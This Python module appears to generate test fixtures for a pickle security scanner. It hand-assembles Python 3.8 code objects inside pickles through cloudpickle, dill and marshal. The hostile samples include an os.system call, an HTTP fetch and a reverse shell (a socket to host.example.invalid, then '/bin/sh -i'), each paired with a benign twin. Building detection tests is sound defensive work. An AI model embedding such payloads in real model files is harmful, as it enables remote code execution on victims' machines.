"""Compiled functions inside pickles, instruction by instruction: one hit for each rule COD001 to COD006.

The instructions are those of Python 3.8. Loading one of these files makes a code object; nothing
calls it.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

from samples.recipes.assembler import MARKER, call, data, integer, name, stream, text, tuple_of
from samples.recipes.assembler import NONE as NONE_VALUE

Constant = str | int | tuple[str, ...] | None
Steps = tuple[tuple[str, int], ...]

_NUMBERS = {
    "IMPORT_NAME": 108,
    "STORE_FAST": 125,
    "LOAD_FAST": 124,
    "LOAD_GLOBAL": 116,
    "LOAD_METHOD": 160,
    "CALL_METHOD": 161,
    "CALL_FUNCTION": 131,
    "LOAD_CONST": 100,
    "BINARY_TRUE_DIVIDE": 27,
    "POP_TOP": 1,
    "RETURN_VALUE": 83,
}


class Function:
    """One function of Python 3.8: `steps` over `names`, `constants` and `variables`."""

    def __init__(
        self, title: str, steps: Steps, constants: tuple[Constant, ...], names: tuple[str, ...] = ()
    ) -> None:
        self.title = title
        self.code = bytes(part for step, argument in steps for part in (_NUMBERS[step], argument))
        self.constants = constants
        self.names = names
        self.variables = ("x",)

    @property
    def spelled(self) -> tuple[bytes, ...]:
        """The sixteen arguments of `types.CodeType`, as expressions of a pickle."""
        counts = (1, 0, 0, 1, 4, 67)
        return (
            *(integer(count) for count in counts),
            data(self.code),
            tuple_of(*(_expression(value) for value in self.constants)),
            tuple_of(*(text(each) for each in self.names)),
            tuple_of(*(text(each) for each in self.variables)),
            *(text("model.py"), text(self.title), integer(1), data(b"")),
            *(tuple_of(), tuple_of()),
        )

    @property
    def marshalled(self) -> bytes:
        """The same as marshal data."""
        names, variables = _tuple(map(_text, self.names)), _tuple(map(_text, self.variables))
        constants = _tuple(map(_marshalled, self.constants))
        counts = b"".join(struct.pack("<i", count) for count in (1, 0, 0, 1, 4, 67))
        head = b"c" + counts + _bytes(self.code) + constants + names + variables + 2 * _tuple(())
        return head + _text("model.py") + _text(self.title) + struct.pack("<i", 1) + _bytes(b"")


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield a hit for each rule, and the twin that has its shape and names nothing dangerous."""
    for title, function in _FUNCTIONS.items():
        yield f"code/{title}.pkl", stream(call(_code_type(), *function.spelled))
    system, scale = _FUNCTIONS["starts-a-program"], _FUNCTIONS["starts-a-program.twin"]
    yield "code/marshal.pkl", _loads(system.marshalled)
    yield "code/marshal.twin.pkl", _loads(scale.marshalled)
    yield "code/marshal-cut-off.pkl", _loads(system.marshalled[:-8])
    yield "code/dill.pkl", stream(call(name("dill._dill", "_create_code"), data(b""), *system.spelled))


def _code_type() -> bytes:
    """How cloudpickle reaches the type of code objects."""
    return call(name("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType"))


def _loads(marshalled: bytes) -> bytes:
    return stream(call(name("marshal", "loads"), data(marshalled)))


def _expression(value: Constant) -> bytes:
    if isinstance(value, tuple):
        return tuple_of(*(text(each) for each in value))
    if value is None:
        return NONE_VALUE
    return integer(value) if isinstance(value, int) else text(value)


def _marshalled(value: Constant) -> bytes:
    if isinstance(value, tuple):
        return _tuple(map(_text, value))
    if value is None:
        return b"N"
    return b"i" + struct.pack("<i", value) if isinstance(value, int) else _text(value)


def _tuple(items: Iterator[bytes] | tuple[bytes, ...]) -> bytes:
    parts = tuple(items)
    return b")" + bytes([len(parts)]) + b"".join(parts)


def _text(value: str) -> bytes:
    return b"z" + bytes([len(value)]) + value.encode("ascii")


def _bytes(value: bytes) -> bytes:
    return b"s" + struct.pack("<i", len(value)) + value


def _imported(module: int) -> Steps:
    """`import MODULE`, which stays on the stack; constants 0 and 1 are 0 and None."""
    return (("LOAD_CONST", 0), ("LOAD_CONST", 1), ("IMPORT_NAME", module))


def _method(name_index: int, *constants: int) -> Steps:
    """Call a method of what is on top with constants."""
    given = tuple(("LOAD_CONST", each) for each in constants)
    return (("LOAD_METHOD", name_index), *given, ("CALL_METHOD", len(constants)))


_END: Steps = (("RETURN_VALUE", 0),)
_POP: Steps = (("POP_TOP", 0),)
_FUNCTIONS = {
    "starts-a-program": Function(
        "predict",
        (*_imported(0), *_method(1, 2), *_END),
        (0, None, MARKER),
        ("os", "system"),
    ),
    "starts-a-program.twin": Function(
        "predict",
        (("LOAD_FAST", 0), ("LOAD_CONST", 2), ("BINARY_TRUE_DIVIDE", 0), *_END),
        (0, None, 255),
    ),
    "reads-a-file": Function(
        "load_vocabulary",
        (("LOAD_GLOBAL", 0), ("LOAD_CONST", 2), ("CALL_FUNCTION", 1), *_method(1), *_END),
        (0, None, "vocabulary.txt"),
        ("open", "read"),
    ),
    "opens-a-connection": Function(
        "predict",
        (*_imported(0), *_method(1, 2), *_END),
        (0, None, "https://host.example.invalid/"),
        ("requests", "get"),
    ),
    "shell-on-a-connection": Function(
        "predict",
        (
            *(*_imported(0), ("STORE_FAST", 0), ("LOAD_FAST", 0), *_method(1), *_method(2, 2), *_POP),
            *(*_imported(3), *_method(4, 3), *_END),
        ),
        (0, None, ("host.example.invalid", "1"), ("/bin/sh", "-i")),
        ("socket", "socket", "connect", "subprocess", "call"),
    ),
}
